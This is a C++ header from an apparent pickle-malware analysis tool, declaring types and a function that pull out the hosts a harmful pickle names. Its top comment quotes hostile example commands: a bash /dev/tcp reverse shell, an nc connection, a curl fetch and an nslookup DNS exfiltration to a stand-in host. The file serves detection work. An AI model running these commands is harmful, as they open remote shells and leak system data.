// The hosts that a harmful pickle names, out of what its report shows: arguments of its calls, commands, URLs and the
// program. Read as text, because the host stands in a shell's or Python's own language more often than in an argument
// of its own: `bash -i >& /dev/tcp/10.0.0.1/4444`, `nc 10.0.0.1 4444`, `curl http://host:8080/x`, `("10.0.0.1", 4444)`,
// `nslookup $(id).evil.example`. What is no host costs a place in the list and nothing else: nobody turns there.
// Pure; linear in the text, of which kMaxText bytes are read; kMaxSure and kMaxNames hosts at most.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "dissectors/pickle/pickle_report.h"
#include "sensor/event.h"

namespace pickletap {

struct NamedHost {
  std::string host;                  ///< an address, or a name in lower case without a last dot
  uint16_t port = 0;                 ///< 0: none is named
  std::optional<IpAddress> address;  ///< where `host` is one

  /// "10.0.0.1:4444", "[fd00::1]:80", "evil.example".
  std::string text() const;
};

struct NamedHosts {
  static constexpr size_t kMaxText = size_t{64} << 10;
  static constexpr size_t kMaxSure = 16;   ///< addresses, and names with a port or in a URL
  static constexpr size_t kMaxNames = 16;  ///< names without
  std::vector<NamedHost> hosts;
  bool more = false;  ///< there was no room for all, or not all was read
};

NamedHosts named_hosts(const PickleReport& report);

}  // namespace pickletap
